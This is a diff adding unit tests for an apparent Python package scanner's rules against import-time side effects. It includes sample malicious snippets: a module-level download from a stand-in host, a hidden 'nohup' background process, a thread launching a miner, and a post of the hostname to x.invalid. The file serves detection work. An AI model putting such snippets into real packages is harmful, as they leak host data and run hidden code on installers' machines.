@@ -1,0 +1,54 @@
+"""Import-time side effects: module-level actions versus the same calls inside functions."""
+
+from __future__ import annotations
+
+from rulekit import ids, package, py, run
+
+from pipvet.analysis.rules.imports import RULES
+from pipvet.models import Severity, Stage
+
+
+def test_module_level_download_and_process_fire() -> None:
+    source = (
+        "import os, urllib.request\n"
+        "urllib.request.urlopen('http://x.invalid/p')\n"
+        "os.system('nohup /tmp/.x &')\n"
+    )
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert ids(findings) == {"PV-IMP-001", "PV-IMP-002"}
+    assert all(f.stage is Stage.IMPORT for f in findings)
+
+
+def test_calls_reached_through_a_local_function_and_thread_count() -> None:
+    source = (
+        "import threading, subprocess\n"
+        "def work():\n    subprocess.Popen(['/tmp/miner'])\n"
+        "threading.Thread(target=work, daemon=True).start()\n"
+    )
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert ids(findings) == {"PV-IMP-002", "PV-IMP-003"}
+
+
+def test_network_with_host_facts_on_import_is_critical() -> None:
+    source = "import requests, socket\nrequests.post('http://x.invalid', data=socket.gethostname())\n"
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert findings[0].severity is Severity.CRITICAL
+
+
+def test_benign_function_bodies_and_main_guard_are_quiet() -> None:
+    source = (
+        "import subprocess, requests, sys\n"
+        "def fetch(url):\n    return requests.get(url)\n"
+        "def run(cmd):\n    return subprocess.run(cmd)\n"
+        "if sys.platform != 'win32' and __name__ == '__main__':\n    run(['ls'])\n"
+        "VERSION = subprocess.check_output(['git', 'describe'])\n"
+    )
+    assert run(RULES, py(source, path="acme/__init__.py")) == []
+
+
+def test_scripts_and_tests_are_not_import_time() -> None:
+    source = "import subprocess\nsubprocess.check_call(['make', 'docs'])\nsubprocess.call(['./x'])\n"
+    members = ("acme/__init__.py", "tools/gen.py", "tests/test_x.py")
+    pkg = package(members=members)
+    assert run(RULES, py(source, path="tools/gen.py", stage=Stage.RUNTIME), pkg) == []
+    assert run(RULES, py(source, path="tests/test_x.py", stage=Stage.RUNTIME), pkg) == []
